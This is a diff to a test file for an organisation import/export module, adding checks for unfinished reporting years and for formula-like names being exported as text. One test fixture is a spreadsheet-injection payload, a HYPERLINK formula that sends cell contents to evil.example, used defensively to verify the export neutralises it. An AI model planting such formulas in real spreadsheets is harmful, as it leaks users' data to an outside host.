@@ -201,7 +201,7 @@ describe('importOrgs / exportOrgs', { timeout: 120_000 }, () => {
     const b = await database.db.selectFrom('organisations').selectAll().where('uscc', '=', codeB).executeTakeFirstOrThrow();
     expect(b.founded_on).toBe('2019-07-08');
     const f = await database.db.selectFrom('enterprise_yearly_figures').selectAll().where('org_id', '=', a.id).executeTakeFirstOrThrow();
-    expect(f).toMatchObject({ year: 2024, revenue: 123456789, rd_expense: 10000050, rd_expense_domestic: 9000000, net_assets: -500025, tech_contract_income: 10, staff: 40, source: 'import' });
+    expect(f).toMatchObject({ year: 2024, revenue: 123456789, rd_expense: 10000050, rd_expense_domestic: 9000000, net_assets: -500025, tech_contract_income: 10, staff: 40, source: 'imported' });
     const audit = await database.db.selectFrom('audit_log').select(['result', 'detail']).where('action', '=', 'orgs.import').orderBy('seq', 'desc').executeTakeFirstOrThrow();
     expect(audit.result).toBe('ok');
     expect(JSON.parse(audit.detail)).toMatchObject({ total: 6, inserted: 4, skipped: 2, partial: true });
@@ -217,6 +217,7 @@ describe('importOrgs / exportOrgs', { timeout: 120_000 }, () => {
       csvRow({ kind: 'university', name: '苏州测试大学', ...FIGS }), // 7: figures on a non-enterprise
       csvRow({ kind: 'enterprise', name: '苏州六有限公司' }), // 8: enterprise without uscc
       csvRow({ kind: 'company', name: 'X' }), // 9
+      csvRow({ kind: 'enterprise', name: '苏州七有限公司', uscc: makeUscc('91', '320506', '22222222'), ...FIGS, year: '2100' }), // 10: a year not ended
     ];
     const p = file('figs.csv', [HEADER, ...rows].join('\n'));
     const r = await importOrgs(database.db, ACTOR, p);
@@ -234,6 +235,7 @@ describe('importOrgs / exportOrgs', { timeout: 120_000 }, () => {
     expect(at(7).map((e) => e.field)).toEqual(['year']);
     expect(at(8)[0]!.message).toMatch(/企业必须填写统一社会信用代码/);
     expect(at(9).map((e) => e.field)).toEqual(['kind', 'name']);
+    expect(at(10)).toEqual([{ row: 10, field: 'year', message: expect.stringMatching(/^第 10 行 .*年度 2100 尚未结束/) }]);
     expect(await orgCount()).toBe(0);
   });
 
@@ -367,6 +369,46 @@ describe('importOrgs / exportOrgs', { timeout: 120_000 }, () => {
       expect(exports.length).toBeGreaterThanOrEqual(2);
     });
   }
+
+  it('exports names that look like formulas as text (apostrophe in front) in .xlsx and .csv, money as numbers; re-import restores the names', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1', '-1+1', '@SUM(1)', '苏州正常科技有限公司'];
+    const uscc = (i: number) => makeUscc('91', '320571', `5555000${i}`);
+    const rows = names.map((name, i) => csvRow({ kind: 'enterprise', name, uscc: uscc(i), ...FIGS, net_assets: i % 2 ? '-5000.25' : '5000.25' }));
+    const first = await importOrgs(database.db, ACTOR, file('formulas.csv', [HEADER, ...rows].join('\n')));
+    expect(first.errors).toEqual([]);
+    expect((await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name)).toEqual(names);
+    const nameCol = COLUMNS.findIndex((c) => c.key === 'name');
+    const moneyCols = COLUMNS.map((c, i) => [c, i] as const).filter(([c]) => c.type === 'money' || c.type === 'signed_money').map(([, i]) => i);
+
+    // .xlsx: read back with exceljs — text cells, no formula anywhere, money numbers equal to 分/100
+    const x = path.join(dir, 'formulas.xlsx');
+    await exportOrgs(database.db, ACTOR, x);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(x);
+    const ws = wb.getWorksheet('organisations')!;
+    const got: string[] = [];
+    ws.eachRow((row, n) => {
+      row.eachCell((cell) => expect(cell.type, `row ${n} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula));
+      if (n === 1) return;
+      got.push(row.getCell(nameCol + 1).value as string);
+      for (const i of moneyCols) expect(typeof row.getCell(i + 1).value, `row ${n} col ${i}`).toBe('number');
+      expect(row.getCell(COLUMNS.findIndex((c) => c.key === 'revenue') + 1).value).toBe(123456789 / 100);
+    });
+    expect(got).toEqual(names.map((n) => (/^[=+\-@]/.test(n) ? `'${n}` : n)));
+
+    // .csv: the same text cells
+    const c = path.join(dir, 'formulas.csv');
+    await exportOrgs(database.db, ACTOR, c);
+    const csvNames = (await readOrgsFileCells(c)).slice(1).map((r) => r[nameCol]);
+    expect(csvNames).toEqual(got);
+
+    // and both read back into the original names
+    for (const f of [x, c]) {
+      await sql`TRUNCATE organisations RESTART IDENTITY CASCADE`.execute(database.db);
+      expect((await importOrgs(database.db, ACTOR, f)).errors).toEqual([]);
+      expect((await database.db.selectFrom('organisations').select('name').orderBy('id').execute()).map((o) => o.name)).toEqual(names);
+    }
+  });
 
   it('exports one kind only', async () => {
     await importOrgs(database.db, ACTOR, file('first.csv', [HEADER, ...goodRows].join('\n')));
